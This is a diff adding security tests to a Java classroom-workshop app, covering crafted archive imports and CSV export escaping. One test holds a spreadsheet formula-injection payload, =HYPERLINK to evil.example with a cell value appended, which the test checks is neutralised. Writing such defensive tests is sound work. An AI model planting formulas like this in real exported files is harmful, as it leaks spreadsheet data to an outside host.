@@ -41,6 +41,7 @@ import org.ssmclassroom.testing.KaribuTest;
 import org.ssmclassroom.workshop.Ids.WorkshopId;
 import org.ssmclassroom.workshop.WorkshopService;
 import org.ssmclassroom.workshop.Workshops;
+import tools.jackson.databind.node.ObjectNode;
 
 /** What a hostile or curious trainee tries: instructor screens and actions, other tables, hostile text. */
 class AbuseTest extends KaribuTest {
@@ -61,6 +62,12 @@ class AbuseTest extends KaribuTest {
 
     @Autowired
     org.ssmclassroom.security.InstructorAccounts accounts;
+
+    @Autowired
+    org.ssmclassroom.record.WorkshopRecords records;
+
+    @Autowired
+    org.ssmclassroom.record.ArchiveImport archives;
 
     private final DeviceToken mei = DeviceToken.random();
     private final DeviceToken intruder = DeviceToken.random();
@@ -226,5 +233,106 @@ class AbuseTest extends KaribuTest {
         assertThat(_get(TextField.class, spec -> spec.withLabel("Your name")).getValue())
                 .isEqualTo(huge);
         assertThat(_find(Span.class)).noneMatch(s -> s.getText().equals(huge));
+    }
+
+    /**
+     * Archives as a prankster would write them: each is refused, nothing is left behind, and the instructor reads
+     * where the archive went wrong — never a database statement, never "Something went wrong".
+     */
+    @Test
+    void aCraftedArchiveIsRefusedSayingWhereNeverWithSqlOrSomethingWentWrong() {
+        signInAsInstructor();
+        int before = workshops.workshops().size();
+        byte[] archive = records.archive(workshop);
+        Map<String, java.util.function.Consumer<ObjectNode>> crafted = new java.util.LinkedHashMap<>();
+        crafted.put("/tables/0/boards/0/values/0/text", a -> {
+            ObjectNode board = (ObjectNode) table(a).get("boards").get(0);
+            board.withArray("entries")
+                    .addObject()
+                    .put("id", "pain-chain/abc234")
+                    .put("position", 1);
+            board.withArray("values")
+                    .addObject()
+                    .put("item", "pain-chain/abc234")
+                    .put("field", "pain")
+                    .put("text", "x".repeat(5 * 1024 * 1024))
+                    .put("version", 1)
+                    .put("author", "Mei")
+                    .put("at", "2026-11-27T10:00:00Z");
+        });
+        crafted.put("/tables/0/marks/0/mark/points", a -> mark(a, "complete", 999));
+        crafted.put("/tables/0/marks/0/mark/points ", a -> mark(a, "complete", -50));
+        crafted.put("/tables/0/marks/0", a -> mark(a, "made-up", 2));
+        crafted.put("/workshop/language", a -> ((ObjectNode) a.get("workshop")).put("language", "xx"));
+        crafted.put("/workshop/date", a -> ((ObjectNode) a.get("workshop")).put("date", "+999999999-12-31"));
+        crafted.put(
+                "/tables/0/participants/0/joinedAt",
+                a -> ((ObjectNode) table(a).get("participants").get(0)).put("joinedAt", "+999999999-12-31T23:59:59Z"));
+        crafted.put(
+                "/tables/0/participants/1",
+                a -> table(a).withArray("participants").addNull());
+        crafted.put("/tables/0/participants", a -> {
+            var participants = table(a).withArray("participants");
+            for (int i = 0; i < 20_000; i++) {
+                participants.add(((ObjectNode) participants.get(0)).deepCopy().put("name", "Bot " + i));
+            }
+        });
+        crafted.put("/tables/0/marks/1", a -> {
+            mark(a, "complete", 2);
+            mark(a, "complete", 4);
+        });
+
+        crafted.forEach((place, craft) -> {
+            ObjectNode tree = (ObjectNode) JSON.readTree(archive);
+            craft.accept(tree);
+            byte[] json = JSON.writeValueAsBytes(tree);
+            assertThatThrownBy(() -> archives.importArchive(json))
+                    .as(place)
+                    .isInstanceOfSatisfying(
+                            ActionRefused.class,
+                            refused -> assertThat(org.ssmclassroom.base.ui.ErrorNotices.message(refused))
+                                    .as(place)
+                                    .contains(place.strip())
+                                    .doesNotContain("Something went wrong", "SQL", "INSERT", "refused."));
+        });
+        assertThat(workshops.workshops()).hasSize(before);
+    }
+
+    @Test
+    void aFormulaSmuggledInAnArchiveIsPlainTextInTheScoresCsv() {
+        signInAsInstructor();
+        ObjectNode tree = (ObjectNode) JSON.readTree(records.archive(workshop));
+        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        table(tree).put("name", link);
+        mark(tree, "complete", 2);
+        ObjectNode mark = (ObjectNode) table(tree).get("marks").get(0).get("mark");
+        mark.put("scorer", "@lee").put("comment", "+1+1");
+
+        WorkshopId copy = archives.importArchive(JSON.writeValueAsBytes(tree)).id();
+        String csv = new String(records.scoresCsv(copy), java.nio.charset.StandardCharsets.UTF_8);
+
+        assertThat(csv)
+                .contains("\"'" + link.replace("\"", "\"\"") + "\"", "\"'@lee\"", "\"'+1+1\"")
+                .doesNotContain(",\"=", ",\"@", ",\"+", ",\"-");
+    }
+
+    private static final tools.jackson.databind.json.JsonMapper JSON =
+            tools.jackson.databind.json.JsonMapper.builder().build();
+
+    private static ObjectNode table(ObjectNode archive) {
+        return (ObjectNode) archive.get("tables").get(0);
+    }
+
+    private static void mark(ObjectNode archive, String criterion, int points) {
+        table(archive)
+                .withArray("marks")
+                .addObject()
+                .put("exercise", "ex2")
+                .putObject("mark")
+                .put("criterion", criterion)
+                .put("scorer", "lee")
+                .put("points", points)
+                .put("comment", "")
+                .put("version", 1);
     }
 }
